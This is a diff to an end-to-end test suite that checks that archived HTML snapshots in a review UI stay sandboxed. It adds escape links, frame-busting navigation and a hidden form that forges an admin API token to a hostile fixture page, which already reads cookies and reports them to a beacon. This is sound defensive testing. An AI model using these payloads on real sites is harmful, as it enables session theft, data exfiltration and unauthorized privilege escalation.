@@ -19,6 +19,9 @@ function hostilePage(beacon: string): string {
   <h1>Hostile fixture article</h1>
   <p>This page carries a script that tries to read the session cookie and call the API of whoever displays it.</p>
   <p>If it ever runs inside the review UI, it reports to the fixture site and the test sees the hit.</p>
+  <p>Without script, it offers a reader ways out: <a id="escape-top" href="${beacon}?clicked=top" target="_top">a link that replaces the whole tab</a>,
+  <a id="escape-popup" href="${beacon}?clicked=popup" target="_blank">one that opens a new window</a>, and a form that would make an admin token:</p>
+  <form id="forged" action="/api/tokens" method="post" target="_top"><input type="hidden" name="role" value="admin"><button type="submit">Continue</button></form>
 </article></main>
 <script>
   (function () {
@@ -26,6 +29,8 @@ function hostilePage(beacon: string): string {
     document.body.setAttribute('data-ran-at', location.href);
     try { report('cookie', document.cookie); } catch (e) { report('cookie-error', String(e)); }
     try { window.top.document.title = 'pwned'; } catch (e) { report('top-error', String(e)); }
+    // Only when framed: at capture time the page is the top window, and navigating it would spoil the capture.
+    if (window.top !== window) { try { window.top.location.href = '${beacon}?navigated=top'; } catch (e) { report('top-nav-error', String(e)); } }
     fetch('/api/targets', { credentials: 'include' })
       .then(function (r) { return r.text(); })
       .then(function (t) { report('api', t.slice(0, 200)); }, function (e) { report('api-error', String(e)); });
@@ -44,9 +49,9 @@ describe('archived HTML is hostile: it never runs in the UI origin', () => {
   beforeAll(async () => {
     db = await createTestDatabase();
     server = await startUiServer(db.url, {}, (s) => {
-      // Every request that reaches /api/targets on the UI's server: the stored page's fetch would be one.
+      // Every request that reaches /api/targets or /api/tokens on the UI's server: the stored page's fetch, or its form, would be one.
       s.app.addHook('onRequest', async (request) => {
-        if (request.url.startsWith('/api/targets')) apiRequests.push(request.url);
+        if (request.url.startsWith('/api/targets') || request.url.startsWith('/api/tokens')) apiRequests.push(`${request.method} ${request.url}`);
       });
     });
     site = await startFixtureSite();
@@ -92,6 +97,20 @@ describe('archived HTML is hostile: it never runs in the UI origin', () => {
       expect(site.hits('/beacon')).toBe(hitsAtCapture);
       expect(apiRequests).toEqual([]);
 
+      // No way out by a reader's clicks either: the frame may not navigate the tab, open a window, or send a form.
+      const snapshotPage = page.url();
+      const tokensBefore = (await server.ctx.pool.query('select id from api_tokens')).rowCount;
+      await frame!.locator('#escape-top').click();
+      await frame!.locator('#escape-popup').click();
+      await frame!.locator('#forged button').click();
+      await page.waitForTimeout(1_500);
+      expect(page.url()).toBe(snapshotPage);
+      expect(await page.title()).toBe(title);
+      expect(context.pages()).toHaveLength(1);
+      expect(site.hits('/beacon')).toBe(hitsAtCapture);
+      expect(apiRequests).toEqual([]);
+      expect((await server.ctx.pool.query('select id from api_tokens')).rowCount).toBe(tokensBefore);
+
       // Opened on its own, outside the iframe: still sandboxed, still inert, and its document cannot see cookies.
       await page.goto(`${server.baseUrl}/api/snapshots/${saved.snapshot.id}/html`);
       await page.waitForTimeout(1_500);
@@ -103,6 +122,10 @@ describe('archived HTML is hostile: it never runs in the UI origin', () => {
       // The control again, in this very browser: the same page served live does run, and the beacon sees it.
       await page.goto(site.url('/hostile'));
       await expect.poll(() => site.hits('/beacon'), { timeout: 10_000 }).toBeGreaterThan(hitsAtCapture);
+      // …and its way out works where nothing stops it: the same click leaves the page.
+      const hitsLive = site.hits('/beacon');
+      await page.locator('#escape-top').click();
+      await expect.poll(() => site.hits('/beacon'), { timeout: 10_000 }).toBeGreaterThan(hitsLive);
     } finally {
       await context.close();
     }
